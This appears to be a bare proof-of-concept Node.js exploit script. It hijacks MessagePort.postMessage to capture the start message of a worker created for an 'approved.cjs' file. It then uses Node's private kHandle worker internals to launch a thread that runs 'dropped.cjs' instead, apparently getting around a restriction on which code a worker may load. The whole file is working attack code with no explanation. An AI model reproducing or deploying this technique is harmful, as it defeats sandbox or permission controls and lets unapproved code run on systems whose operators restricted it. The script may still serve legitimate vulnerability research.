const { Worker, MessageChannel } = require('worker_threads');
const { prototype } = MessagePort;
const post = prototype.postMessage;
let start;
prototype.postMessage = function (m, t) {
  if (m?.filename) start = m;
  return post.call(this, m, t);
};
const w = new Worker(__dirname + '/approved.cjs');
prototype.postMessage = post;
const handle = w[Object.getOwnPropertySymbols(w).find((s) => s.description === 'kHandle')];
const raw = new handle.constructor(null, {}, [], new Float64Array(4), true, false, 'x');
const own = new MessageChannel(),
  main = new MessageChannel();
post.call(
  raw.messagePort,
  {
    ...start,
    filename: __dirname + '/dropped.cjs',
    publicPort: own.port2,
    mainThreadPort: main.port2,
  },
  [own.port2, main.port2],
);
raw.onexit = () => process.exit();
raw.messagePort.on('message', () => {});
raw.messagePort.start();
raw.startThread();
